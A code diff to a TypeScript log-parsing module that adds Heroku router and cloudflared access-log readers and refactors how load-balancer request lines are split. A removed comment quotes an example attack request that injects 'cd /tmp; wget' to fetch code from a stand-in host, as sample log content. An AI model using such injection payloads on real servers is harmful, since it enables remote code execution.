@@ -1,5 +1,5 @@
-// Text access logs of load balancers and proxies other than nginx/Apache, each one regex over its
-// documented default format. Every reader returns the request, or undefined when the line is not
+// Text access logs of load balancers, proxies and platform routers other than nginx/Apache, each one
+// regex over its documented default format. Every reader returns the request, or undefined when the line is not
 // in its format.
 import { isIP } from 'node:net';
 import { parseTimestamp } from '../time.js';
@@ -13,9 +13,9 @@ const MONTHS: Record<string, string> = {
   Jan: '01', Feb: '02', Mar: '03', Apr: '04', May: '05', Jun: '06', Jul: '07', Aug: '08', Sep: '09', Oct: '10', Nov: '11', Dec: '12',
 };
 
-function record(timeText: string | undefined, ctx: ParseContext, fields: EventFields): AccessRecord {
+function record(timeText: string | undefined, ctx: ParseContext, fields: EventFields | undefined): AccessRecord {
   const time = timeText === undefined ? undefined : parseTimestamp(timeText, ctx.time);
-  return { time, ...(time === undefined && timeText !== undefined ? { unreadableTime: true } : {}), fields };
+  return { time, ...(time === undefined && timeText !== undefined ? { unreadableTime: true } : {}), ...(fields !== undefined ? { fields } : {}) };
 }
 
 function unquote(value: string | undefined): string | undefined {
@@ -31,16 +31,11 @@ const ALB = new RegExp(
 // sent "request" "user agent" cipher protocol`.
 const ELB = new RegExp(String.raw`^(\d{4}-\d{2}-\d{2}T\S+Z) \S+ (\S+) \S+ \S+ \S+ \S+ (\d{3}|-) (?:\d{3}|-) (?:\d+|-) (?:\d+|-) ${QUOTED} ${QUOTED}`);
 
-// AWS logs the request as the client sent it: a URI with a space in it stays whole (ALB's
-// `SpaceInUri` classification, `"GET http://host:80/shell?cd+/tmp;wget+ a.example/x HTTP/1.1"`).
-const LB_REQUEST = /^([A-Z][A-Z0-9_-]*) (\S.*?)(?: HTTP\/[\d.]+)?$/;
-
 function readLoadBalancer(text: string, ctx: ParseContext): AccessRecord | undefined {
   const m = ALB.exec(text) ?? ELB.exec(text);
   if (m === null) return undefined;
-  const line = m[4]!.replace(/\\"/g, '"').trim();
-  const whole = LB_REQUEST.exec(line);
-  const request = whole === null ? undefined : { method: whole[1]!, target: whole[2]! };
+  // AWS logs the request as the client sent it: a URI with spaces stays whole (splitRequestLine).
+  const request = splitRequestLine(m[4]!.replace(/\\"/g, '"'));
   return record(m[1]!, ctx, {
     source: clientAddress(m[2]!),
     method: request?.method,
@@ -124,10 +119,66 @@ function readProxyManager(text: string, ctx: ParseContext): AccessRecord | undef
   });
 }
 
-/** The request of a load balancer, HAProxy, Envoy or Nginx Proxy Manager line, or undefined for none of them. */
+// Heroku's router, one line a request after `heroku[router]: ` (the paas envelope takes the time):
+// `at=info method=GET path="/p?q" host=… request_id=… fwd="198.51.100.7" dyno=web.1 connect=0ms
+// service=1ms status=200 bytes=974 …`; an error adds `code=H13 desc="…"` before the method, older
+// lines leave the path unquoted and the request id out. `fwd` is X-Forwarded-For as the router
+// passes it on: whatever the client sent, then the address that connected to the router, the
+// source. The lazy run to `status=` is the only open repetition, so a long line cannot backtrack.
+const HEROKU_ROUTER = new RegExp(
+  String.raw`^at=[a-z]+ (?:code=\S+ desc=${QUOTED} )?method=([A-Z]+) path=(?:${QUOTED}|(\S+)) host=\S+ (?:request_id=\S+ )?fwd=${QUOTED} .*?\bstatus=(\d{3})\b`,
+);
+
+function readHerokuRouter(text: string): AccessRecord | undefined {
+  const m = HEROKU_ROUTER.exec(text);
+  if (m === null) return undefined;
+  const fwd = unquote(m[5]);
+  const last = fwd?.slice(fwd.lastIndexOf(',') + 1);
+  return {
+    fields: {
+      source: clientAddress(last),
+      forwardedFor: fwd?.includes(',') === true ? fwd : undefined,
+      method: m[2]!,
+      path: pathOnly(unquote(m[3]) ?? m[4]),
+      status: httpStatus(m[6]),
+    },
+  };
+}
+
+// cloudflared at `--loglevel debug` (text): `<time> DBG GET https://host/p?q HTTP/1.1 connIndex=2 …
+// headers={"Cf-Connecting-Ip":["…"],…} host=… path=/p`; the response is a line of its own
+// (`DBG 200 OK connIndex=2 …`), so no status. Cloudflare's edge sets `Cf-Connecting-Ip`: the source.
+const TUNNEL = /^(\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(?:\.\d{1,9})?(?:Z|[+-]\d{2}:\d{2})) DBG ([A-Z][A-Z0-9_-]*) (\S+) HTTP\/[\d.]+ connIndex=\d/;
+const CONNECTING_IP = /"Cf-Connecting-Ip":\["([^"\]]{1,64})"\]/;
+
+function readTunnelText(text: string, ctx: ParseContext): AccessRecord | undefined {
+  const m = TUNNEL.exec(text);
+  if (m === null) return undefined;
+  return record(m[1]!, ctx, {
+    source: clientAddress(CONNECTING_IP.exec(text)?.[1]),
+    method: m[2]!,
+    path: pathOnly(urlPath(m[3]!)),
+  });
+}
+
+const TUNNEL_LEVEL = /^(\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(?:\.\d{1,9})?(?:Z|[+-]\d{2}:\d{2})) (?:TRC|DBG|INF|WRN|ERR) /;
+
+/**
+ * cloudflared's other lines (`INF Registered tunnel connection …`, the response's `DBG 200 OK …`):
+ * read only inside an input already detected as an access log (never for detection: at its default
+ * level cloudflared logs no request, and such a log must not look like one that covers requests),
+ * they date the input instead of counting as unparsed.
+ */
+export function readTunnelOther(text: string, ctx: ParseContext): AccessRecord | undefined {
+  const m = TUNNEL_LEVEL.exec(text);
+  return m === null ? undefined : record(m[1]!, ctx, undefined);
+}
+
+/** The request of a load balancer, HAProxy, Envoy, Nginx Proxy Manager, Heroku router or cloudflared line, or undefined for none of them. */
 export function readAccessText(text: string, ctx: ParseContext): AccessRecord | undefined {
   const c = text.charCodeAt(0);
+  if (c === 0x61 && text.startsWith('at=')) return readHerokuRouter(text);
   if (c === 0x5b) return readEnvoy(text, ctx) ?? readProxyManager(text, ctx);
   if (c === 0x41 && text.startsWith('ACCESS [')) return readEnvoy(text, ctx);
-  return readLoadBalancer(text, ctx) ?? readHaproxy(text, ctx);
+  return readLoadBalancer(text, ctx) ?? readHaproxy(text, ctx) ?? readTunnelText(text, ctx);
 }
